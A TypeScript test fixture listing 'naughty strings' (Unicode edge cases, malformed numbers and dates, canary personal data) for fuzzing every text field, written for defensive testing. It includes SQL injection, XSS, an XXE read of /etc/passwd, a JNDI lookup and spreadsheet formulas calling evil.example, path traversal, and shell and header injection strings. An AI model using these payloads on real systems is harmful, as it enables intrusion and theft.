// Long because it is a list: texts that have broken programs, by the kind of program that they break.

/** Repeats a text. */
const times = (text: string, count: number) => text.repeat(count);

const controls = [
  '\u0000',
  'Hari\u0000Barik',
  '\u0001\u0002\u0003',
  '\u0007bell',
  'back\u0008space',
  'tab\tin\tbetween',
  'vertical\u000btab',
  'form\u000cfeed',
  'line\nfeed',
  'carriage\rreturn',
  'both\r\nof them',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  'delete\u007f',
  'next\u0085line',
  '\u0080\u0081\u009f',
  'line\u2028separator',
  'paragraph\u2029separator',
  '\ufeffmark of the byte order',
  '\ufffereversed',
  '\uffff',
  '\ufffd',
  '\ue000\uf8ff private',
  '\u{10ffff}',
  'tags \u{e0041}\u{e0042}',
];

const surrogates = [
  '\ud83d',
  '\ude00',
  '\ude00\ud83d',
  'Hari \ud83d Barik',
  'end\udfff',
  '\ud800\ud800',
  '\udc00start',
];

const directions = [
  '\u202eesrever',
  '\u202dover\u202c',
  '\u2066isolate\u2069',
  '\u2067\u2067\u2067open',
  '\u200fmark\u200e',
  'plan\u202efdp.exe',
  'العربية',
  'עברית',
  'left العربية right עברית',
];

const invisible = [
  '\u200b',
  'Ha\u200bri',
  '\u200c\u200d',
  '\u2060word joiner',
  '\u00a0',
  '\u3000\u2003\u2009',
  ' ',
  '          ',
  '\u00ad\u00ad',
  '\u180e',
  '\ufe0f',
  '\u115f\u3164',
];

const marks = [
  'H\u0336a\u0336r\u0336i\u0336',
  `Z${times('\u0315\u0358\u0347\u0321', 20)}algo`,
  times('\u0301', 60),
  'é',
  'e\u0301',
  'Å Å Å',
  'ﬁ ﬂ ﬃ',
  'ß ẞ İ ı',
  'Ⅻ ½ ² ①',
  'ｆｕｌｌ　ｗｉｄｔｈ',
  '𝓜𝓪𝓽𝓱 𝔩𝔢𝔱𝔱𝔢𝔯𝔰',
  'раyраl in two alphabets',
];

const emoji = ['😀', '👨‍👩‍👧‍👦', '👍🏿', '🇮🇳', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '❤️‍🔥', '1️⃣', times('🙏', 30)];

const scripts = [
  'ଶ୍ରୀ ଜଗନ୍ନାଥ ମନ୍ଦିର',
  'କ୍ଷେତ୍ର',
  'ସ୍ତ୍ରୀ ଙ୍କ ର୍ଯ୍ୟ',
  'ମୌଜା ଖତିୟାନ ନମ୍ବର ୩୮',
  '୦୧୨୩୪୫୬୭୮୯',
  'କ୍\u200dଷ',
  'କ୍\u200cଷ',
  'ଵ ୱ ୟ ଯ',
  '\u0b4d\u0b4d\u0b4d',
  '\u0b3c\u0b56\u0b57',
  'श्री जगन्नाथ',
  'क्ष त्र ज्ञ',
  '०१२३४५६७८९',
  'தமிழ் తెలుగు বাংলা',
  'မြန်မာ ភាសាខ្មែរ ไทย',
  '田中さんにあげて下さい',
  '𠜎𠜱𠝹𠱓',
  'Ωμέγα Ёлка',
  'ﷺ',
  'ᚠᛇᚻ',
];

const sql = [
  "'",
  "''",
  '"',
  '`',
  ';',
  '--',
  "' OR '1'='1",
  "1' OR 1=1 --",
  "'; DROP TABLE users; --",
  '1; SELECT pg_sleep(10)--',
  "' UNION SELECT password_hash FROM users --",
  "Robert'); DELETE FROM applications;--",
  '%',
  '_',
  '%%%%%%%%%%',
  String.raw`\%\_`,
  '\\',
  "\\'",
  '$1',
  '$$ $tag$',
  '?',
  ':name',
  "E'\\\\x41'",
  '/*',
  '*/ --',
  "O'Reilly",
  '{"$gt":""}',
  '{"$where":"sleep(1000)"}',
];

const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "javascript:alert('1')",
  '<iframe src="https://evil.example"></iframe>',
  '<a href="https://evil.example" target=_blank>press</a>',
  '<b>bold</b>',
  '</title></textarea><h1>',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '<!--',
  ']]>',
  '<![CDATA[x]]>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% debug %}',
  '${jndi:ldap://evil.example/a}',
  'onmouseover="alert(1)"',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example">',
  'data:text/html;base64,PHNjcmlwdD4=',
];

const paths = [
  '../../../../etc/passwd',
  String.raw`..\..\..\windows\win.ini`,
  '/etc/passwd',
  'file:///etc/passwd',
  '%2e%2e%2fetc%2fpasswd',
  '..%c0%af..%c0%afetc',
  '..%252f..%252fetc',
  '....//....//etc',
  'a.pdf\u0000.html',
  '.',
  '..',
  '~',
  '~root/.ssh/id_rsa',
  'CON',
  'aux.txt',
  'a:b|c*d?',
  '//evil.example/a',
  String.raw`\\evil.example\share`,
  '.htaccess',
  '-rf',
];

const shell = [
  '; ls -la',
  '| cat /etc/passwd',
  '$(touch here)',
  '`touch here`',
  '&& sleep 10',
  '\nid\n',
  '%0aid',
  '() { :;}; echo x',
];

const formats = [
  '%s%s%s%s%s',
  '%n%n%n',
  '%x%d%p',
  '%1$s',
  '{0}',
  '{n}',
  '%(name)s',
  '%@',
  '$&',
  "$`$'",
  '\\u0041',
  '\\x00',
  '&amp;',
];

const words = [
  'null',
  'undefined',
  'NaN',
  'true',
  'false',
  'None',
  'nil',
  '[object Object]',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  '__defineGetter__',
];

const numbers = [
  '0',
  '-0',
  '-1',
  '007',
  '1e309',
  '1e-400',
  'Infinity',
  '0x7fffffff',
  '2147483648',
  '9007199254740993',
  '99999999999999999999999999',
  '1,000.50',
  '1.000,50',
  '1_000',
  '0.1',
  '.5',
  '1/0',
  '١٢٣',
];

const days = [
  '0000-00-00',
  '0000-01-01',
  '0001-01-01',
  '2026-02-30',
  '9999-12-31',
  '2026-13-01',
  '2026-01-01T00:00:00Z',
  '31/12/2026',
];

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("https://evil.example","press")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("https://evil.example")',
];

const headers = [
  'a\r\nSet-Cookie: x=1',
  'a\r\n\r\n<html>',
  'a%0d%0aX-Injected: 1',
  'Hari Barik <hari@example.org>, other@example.org',
  'hari@example.org\r\nBcc: other@example.org',
];

const long = [
  times('a', 256),
  times('a', 2001),
  times('a', 4001),
  times('ଜ', 300),
  times('a ', 500),
  times('<', 1000),
  times('(', 1000),
  times('a@', 200),
  `${times('a', 120)}@example.org`,
  `${times('1', 60)}!`,
  times('9', 400),
  times('\n', 300),
];

/** Invented personal data that must not be in any log. */
export const personal = [
  'Kuntala Canary',
  '9876501234',
  'kuntala.canary@example.org',
  'Canary@Secret1',
  '2345 6789 0124',
  '234567890124',
];

/** The texts that break databases, drivers and logs; every call receives all of them. */
export const essential: readonly string[] = [
  'Hari\u0000Barik',
  'Hari \ud83d Barik',
  "'; DROP TABLE users; --",
  '\\',
  '%',
  '\u{10ffff}',
  '9007199254740993',
  '0000-00-00',
  times('a', 4001),
  ...personal,
];

/** Naughty strings, of which every call receives its share in every text field. */
export const naughty: readonly string[] = [
  ...controls,
  ...surrogates,
  ...directions,
  ...invisible,
  ...marks,
  ...emoji,
  ...scripts,
  ...sql,
  ...markup,
  ...paths,
  ...shell,
  ...formats,
  ...words,
  ...numbers,
  ...days,
  ...formulas,
  ...headers,
  ...long,
  ...personal,
];
